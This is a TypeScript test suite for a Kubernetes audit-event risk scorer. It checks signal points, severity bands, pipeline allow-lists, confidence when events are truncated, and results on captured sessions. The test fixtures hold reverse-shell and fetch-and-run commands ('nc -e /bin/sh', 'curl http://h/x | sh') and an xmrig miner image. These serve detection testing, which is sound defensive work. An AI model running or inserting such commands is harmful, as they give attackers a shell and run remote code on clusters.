/**
 * From signals to a risk: points, bands, what a known pipeline is spared, what was not seen, and real events.
 */
import type { RiskConfidence, RiskSeverity } from '@arrivals/core';
import { ATTACK_VERSION, cutEvent, type Risk, type SignalId, SIGNALS } from '@arrivals/core/internal';
import assert from 'node:assert/strict';
import {
  answeredAsTable,
  answeredPartially,
  atLevelMetadata,
  atLevelRequest,
  creationsOfCapture,
  CONTAINER,
  type Json,
  namespaceCreated,
  podCreated,
  truncated,
} from '../alert/creations.ts';
import { bytesOf, dig, readFormFiles } from '../samples.ts';
import { CONTROLLER, hostPath, idsOf, LISTS, podWith, REPLICA_SET, riskOf } from './risks.ts';

const PRIVILEGED: Json = { securityContext: { privileged: true } };
const NODE_ROOT: Json = { volumes: [{ name: 'v', hostPath: { path: '/root' } }] };
const unassessed = (risk: Risk) => risk.notAssessed.flatMap(({ signals }) => signals);

describe('a risk', () => {
  it('is nothing, and sure of it, for a pod that shows all and has nothing', () => {
    assert.deepEqual(riskOf(podCreated()), {
      score: 0,
      severity: 'informational',
      confidence: 'high',
      attackVersion: ATTACK_VERSION,
      signals: [],
      notAssessed: [],
    });
    assert.deepEqual(riskOf(namespaceCreated()).confidence, 'high');
  });

  it('has the sum of its signals’ points, at most 100, the weightiest first', () => {
    const event = podCreated({
      spec: { ...NODE_ROOT, hostPID: true, containers: [{ ...CONTAINER, image: 'ubuntu' }] },
      event: CONTROLLER,
      metadata: { ownerReferences: [REPLICA_SET] },
    });
    const { score, signals } = riskOf(event);
    assert.deepEqual(
      signals.map(({ id, points }) => [id, points]),
      [
        ['host-path-writable', 35],
        ['host-pid', 25],
        ['base-image', 10],
      ],
    );
    assert.equal(score, 70);
    const worst = riskOf(
      podCreated({
        spec: {
          ...NODE_ROOT,
          hostPID: true,
          hostNetwork: true,
          containers: [{ ...CONTAINER, ...PRIVILEGED }],
        },
      }),
    );
    assert.equal(worst.score, 100);
    assert.ok(worst.signals.reduce((sum, { points }) => sum + points, 0) > 100);
  });

  const owned = { event: CONTROLLER, metadata: { ownerReferences: [REPLICA_SET] } };
  const bands: readonly (readonly [spec: Json, score: number, severity: RiskSeverity])[] = [
    [{ hostIPC: true }, 15, 'informational'],
    [{ hostNetwork: true }, 20, 'low'],
    [{ hostNetwork: true, hostIPC: true }, 35, 'low'],
    [{ containers: [{ ...CONTAINER, ...PRIVILEGED }] }, 40, 'medium'],
    [{ containers: [{ ...CONTAINER, ...PRIVILEGED }], hostPID: true }, 65, 'medium'],
    [{ ...NODE_ROOT, hostNetwork: true, hostIPC: true }, 70, 'high'],
    [{ ...NODE_ROOT, hostPID: true, hostNetwork: true }, 80, 'high'],
    [{ ...NODE_ROOT, containers: [{ ...CONTAINER, ...PRIVILEGED }], hostIPC: true }, 90, 'critical'],
  ];
  for (const [spec, score, severity] of bands)
    it(`of ${String(score)} points is ${severity}`, () => {
      const risk = riskOf(podCreated({ ...owned, spec }));
      assert.deepEqual([risk.score, risk.severity], [score, severity]);
    });

  it('of a Deployment that has all files of the node, and nothing else, is medium', () => {
    const risk = riskOf(podCreated({ ...owned, spec: { ...hostPath('/') } }));
    assert.deepEqual([risk.score, risk.severity], [55, 'medium']);
  });

  for (const way of [{ hostPID: true }, { hostNetwork: true }, { hostIPC: true }, NODE_ROOT])
    it(`of a bare system that somebody made by hand with ${Object.keys(way).join()} is at least HIGH, and of the same by a controller it is not`, () => {
      const spec = { ...way, containers: [{ name: 'c', image: 'ubuntu', command: ['sleep', '1d'] }] };
      assert.ok(['high', 'critical'].includes(riskOf(podCreated({ spec })).severity));
      assert.ok(['low', 'medium'].includes(riskOf(podCreated({ ...owned, spec })).severity));
    });

  it('of a creation by nobody is CRITICAL, whatever else', () => {
    for (const created of [podCreated, namespaceCreated])
      assert.equal(
        riskOf(
          created({ event: { user: { username: 'system:anonymous', groups: ['system:unauthenticated'] } } }),
        ).severity,
        'critical',
      );
  });
});

describe('a known pipeline', () => {
  const lists = { pipelineAccounts: ['alice'] };
  const points = (event: Json, known = lists) =>
    riskOf(event, known).signals.map(({ id, points: given }) => [id, given]);

  it('is spared 20 points of what is not hard, and that is shown', () => {
    const event = podCreated({ spec: { hostNetwork: true, hostIPC: true } });
    assert.deepEqual(points(event), [
      ['host-network', 20],
      ['host-ipc', 15],
      ['known-pipeline', -20],
    ]);
    assert.equal(riskOf(event, lists).score, 15);
    assert.equal(
      riskOf(event, lists).signals.at(-1)?.text,
      'Made by "alice", which the list of pipelines names.',
    );
  });

  it('is spared no more than there is', () => {
    const event = podWith({ image: 'ubuntu', ...PRIVILEGED });
    assert.deepEqual(points(event), [
      ['privileged-container', 40],
      ['base-image', 10],
      ['known-pipeline', -10],
    ]);
    assert.equal(riskOf(event, lists).score, 40);
  });

  it('is spared nothing of a hard signal', () => {
    assert.deepEqual(points(podWith(PRIVILEGED)), [['privileged-container', 40]]);
  });

  it('is not who acts as somebody else, nor a part or another writing of the name', () => {
    const network = { spec: { hostNetwork: true } };
    assert.ok(
      !idsOf(
        podCreated({ ...network, event: { impersonatedUser: { username: 'bob', groups: [] } } }),
        lists,
      ).includes('known-pipeline'),
    );
    for (const name of ['alic', 'alice2', 'Alice', '*'])
      assert.ok(!idsOf(podCreated(network), { pipelineAccounts: [name] }).includes('known-pipeline'));
  });

  it('is nobody who is not on the list', () => {
    assert.deepEqual([LISTS.pipelineAccounts, LISTS.ownNetworks], [[], []]);
  });
});

describe('what was not seen', () => {
  const attack = podCreated({
    spec: { ...NODE_ROOT, hostPID: true, containers: [{ ...CONTAINER, ...PRIVILEGED }] },
  });
  const ofSpec: readonly SignalId[] = SIGNALS.filter(
    ({ looksAt }) =>
      looksAt.includes('containers') || looksAt.includes('volumes') || looksAt.includes('commands'),
  ).map(({ id }) => id);

  for (const [what, event, reason] of [
    ['a level without bodies', atLevelMetadata(attack), 'auditLevel'],
    ['truncation', truncated(attack), 'truncated'],
    [
      'a patch whose answer is not recorded',
      { ...atLevelRequest(attack), verb: 'patch', requestObject: [{ op: 'add', path: '/spec', value: {} }] },
      'auditLevel',
    ],
    ['an answer of another shape to a patch', { ...answeredPartially(attack), verb: 'patch' }, 'answerShape'],
    [
      'no bodies for no known reason',
      { ...attack, requestObject: undefined, responseObject: undefined },
      'notInEvent',
    ],
  ] as const)
    it(`is shown, and no pod is called harmless with confidence, for ${what}`, () => {
      const risk = riskOf(event);
      assert.equal(risk.confidence, 'low');
      assert.deepEqual(
        ofSpec.filter((id) => !unassessed(risk).includes(id)),
        [],
      );
      assert.ok(
        risk.notAssessed.some(
          (entry) =>
            entry.reason === reason && entry.signals.includes('privileged-container') && entry.detail !== '',
        ),
      );
    });

  it('does not hide what is seen', () => {
    const event = atLevelMetadata(podCreated({ metadata: { namespace: 'kube-system' } }));
    const risk = riskOf(event);
    assert.deepEqual(
      [risk.signals.map(({ id }) => id), risk.confidence],
      [['unseen-spec', 'system-namespace'], 'low'],
    );
    assert.ok(!unassessed(risk).includes('system-namespace'));
  });

  for (const [what, event] of [
    ['a level without the answer', atLevelRequest(podCreated())],
    ['a Table', answeredAsTable(podCreated())],
    ['PartialObjectMetadata', answeredPartially(podCreated())],
  ] as const)
    it(`includes what admission added, for ${what}`, () => {
      const risk = riskOf(event);
      assert.equal(risk.confidence, 'medium');
      assert.deepEqual(
        ofSpec.filter((id) => !unassessed(risk).includes(id)),
        [],
      );
    });

  it('is only what was not found', () => {
    const { notAssessed } = riskOf(atLevelRequest(attack));
    for (const { signals } of notAssessed)
      for (const id of signals) assert.ok(!idsOf(atLevelRequest(attack)).includes(id), id);
  });

  it('is the owners that were cut: that excuses nobody from having made it by hand', () => {
    const annotations = { 'audit.k8s.io/truncated': 'true', 'arrivals/cut': 'ownerReferences' };
    const risk = riskOf(
      podCreated({ spec: { hostPID: true }, event: { annotations, requestObject: undefined } }),
    );
    assert.deepEqual(
      [risk.signals.map(({ id }) => id), unassessed(risk)],
      [['host-access-by-hand', 'host-pid'], ['contradicted-owner']],
    );
  });

  it('is a probe that was cut with what nobody shows', () => {
    const envFrom = Array.from({ length: 200 }, (_unused, i) => ({
      configMapRef: { name: `settings-${String(i)}` },
    }));
    const bytes = bytesOf(
      podWith({ envFrom, livenessProbe: { exec: { command: ['nc', '-e', 'sh', 'h', '1'] } } }),
    );
    const risk = riskOf(JSON.parse(cutEvent(bytes, 4000).toString()));
    assert.deepEqual(
      [risk.signals.map(({ id }) => id), unassessed(risk).includes('reverse-shell')],
      [['unseen-spec'], true],
    );
  });

  it('of a request is still what the client sent', () => {
    for (const event of [atLevelRequest(attack), answeredAsTable(attack), answeredPartially(attack)])
      assert.deepEqual(
        ['privileged-container', 'host-path-writable', 'host-pid'].filter(
          (id) => !idsOf(event).includes(id as SignalId),
        ),
        [],
      );
  });

  it('is who made it, without whom nothing is sure', () => {
    const risk = riskOf(podCreated({ event: { user: {} } }));
    assert.deepEqual([risk.confidence, unassessed(risk).includes('anonymous-actor')], ['low', true]);
  });

  it('is the address, without which the rest is sure enough', () => {
    for (const sourceIPs of [[], [''], ['nowhere']]) {
      const risk = riskOf(podCreated({ event: { sourceIPs } }));
      assert.deepEqual([risk.confidence, unassessed(risk)], ['medium', ['system-principal-public']]);
    }
  });

  it('is the name of a namespace that the server was to complete', () => {
    const event = atLevelMetadata(
      namespaceCreated({ event: { objectRef: { resource: 'namespaces', apiVersion: 'v1' } } }),
    );
    const risk = riskOf(event);
    assert.deepEqual(
      [risk.confidence, unassessed(risk)],
      ['low', ['privileged-namespace', 'system-like-namespace']],
    );
  });

  it('asks of a namespace nothing that only pods have', () => {
    assert.deepEqual(unassessed(riskOf(atLevelMetadata(namespaceCreated()))), ['privileged-namespace']);
  });

  it('is what the webhook cut: whatever is no longer found is not assessed', () => {
    const large = podCreated({
      metadata: { annotations: { 'kubernetes.io/config.mirror': 'x', pad: 'x'.repeat(3000) } },
      spec: {
        ...NODE_ROOT,
        hostPID: true,
        containers: [
          ...Array.from({ length: 40 }, (_unused, i) => ({
            ...CONTAINER,
            name: `c${String(i)}`,
            args: ['x'.repeat(200)],
          })),
          {
            name: 'last',
            image: 'xmrig',
            ...PRIVILEGED,
            command: ['sh', '-c', `${'true; '.repeat(300)} nc -e /bin/sh h 1; curl http://h/x | sh`],
            livenessProbe: { exec: { command: ['xmrig'] } },
          },
        ],
      },
    });
    const whole = idsOf(large);
    for (const id of [
      'mirror-pod',
      'miner',
      'privileged-container',
      'host-path-writable',
      'reverse-shell',
      'fetched-code',
    ] as const)
      assert.ok(whole.includes(id), id);
    const bytes = bytesOf(large);
    let lost = 0;
    for (let size = bytes.length - 1; size > 1500; size -= 300) {
      const risk = riskOf(JSON.parse(cutEvent(bytes, size).toString()));
      const found = risk.signals.map(({ id }) => id);
      const missing = whole.filter((id) => !found.includes(id));
      lost += missing.length;
      assert.deepEqual(
        missing.filter((id) => !unassessed(risk).includes(id)),
        [],
        `cut to ${String(size)} bytes`,
      );
      if (missing.length > 0) assert.notEqual(risk.confidence, 'high');
    }
    assert.ok(lost > 0);
  });

  it('is all of a part: a mount that may have been cut is not proof of reading only', () => {
    const spec = {
      volumes: [{ name: 'v', hostPath: { path: '/etc' } }],
      containers: [{ ...CONTAINER, volumeMounts: [{ name: 'v', readOnly: true }] }],
    };
    const annotations = { 'audit.k8s.io/truncated': 'true', 'arrivals/cut': 'containerParts' };
    assert.ok(idsOf(podCreated({ spec })).includes('host-path-read-only'));
    assert.ok(
      idsOf(podCreated({ spec, event: { annotations, requestObject: undefined } })).includes(
        'host-path-writable',
      ),
    );
  });
});

describe('the real events', () => {
  type Row = readonly [
    name: string,
    score: number,
    severity: RiskSeverity,
    confidence: RiskConfidence,
    signals: readonly SignalId[],
  ];

  /** What an analyst should look at in the session, and why; all the rest of it is routine. */
  const NOTEWORTHY: readonly Row[] = [
    // A namespace named to be overlooked.
    ['kube-systern', 25, 'low', 'high', ['system-like-namespace']],
    // A DaemonSet's agent in kube-system: the image is on no list, so its rights over the node are reported.
    [
      'agent-6s6nh',
      100,
      'critical',
      'high',
      ['privileged-container', 'host-path-writable', 'host-pid', 'host-network', 'whole-node-writable'],
    ],
    // A kubelet's static pod: nothing else about it is odd.
    ['static-proxy-edge-1', 30, 'low', 'high', ['mirror-pod']],
    // An administrator who makes a namespace as somebody's service account, with the group of masters.
    ['as-robot', 25, 'low', 'high', ['privileged-impersonation']],
    // The break-out: everything at once, by hand.
    [
      ...(['root-shell', 100, 'critical', 'high'] as const),
      [
        'host-access-by-hand',
        'privileged-container',
        'host-path-writable',
        'host-pid',
        'host-network',
        'whole-node-writable',
        'host-ipc',
      ],
    ],
    // The answer was asked for in a shape without the spec: what admission added is not known.
    ['partial', 0, 'informational', 'medium', []],
    ['table', 0, 'informational', 'medium', []],
    ['table-njlkt', 0, 'informational', 'medium', []],
  ];

  it('of a session have risks where it has attacks', () => {
    const rows = creationsOfCapture().map((event): Row => {
      const { score, severity, confidence, signals } = riskOf(event);
      const name =
        dig(event, 'responseObject', 'metadata', 'name') ??
        dig(event, 'responseObject', 'rows', 0, 'object', 'metadata', 'name');
      return [String(name), score, severity, confidence, signals.map(({ id }) => id)];
    });
    assert.equal(rows.length, 59);
    assert.deepEqual(
      rows.filter(([, score, , confidence]) => score > 0 || confidence !== 'high'),
      NOTEWORTHY,
    );
  });

  it('of an old API server have the risks that their files are named for', () => {
    const seen = readFormFiles()
      .filter(({ name }) => name.startsWith('v1beta1/'))
      .flatMap(({ name, records, alerts }) =>
        alerts.map((i) => [name.slice('v1beta1/'.length), ...idsOf(JSON.parse(records[i] ?? ''))]),
      );
    assert.deepEqual(Object.fromEntries(seen.map(([name, ...ids]) => [name, ids])), {
      'pod-of-host-network.json': ['host-network'],
      // Only its second container is privileged, and the first has no securityContext at all.
      'pod-of-second-privileged.json': ['privileged-container'],
      'pod-of-host-path.json': ['host-path-writable'],
      'pod-of-unprivileged.json': [],
      // A Deployment in kube-system: who wanted it is not in the pod's event.
      'pod-of-in-kube-system.json': [],
      'namespace.json': [],
    });
  });

  it('without bodies are never sure', () => {
    const [metadata] = readFormFiles().filter(({ name }) => name === 'logs/metadata.jsonl');
    assert.ok(metadata !== undefined && metadata.alerts.length > 10);
    for (const i of metadata.alerts) {
      const event: unknown = JSON.parse(metadata.records[i] ?? '');
      const isPod = dig(event, 'objectRef', 'resource') === 'pods';
      assert.equal(riskOf(event).confidence, isPod ? 'low' : 'medium');
    }
  });
});
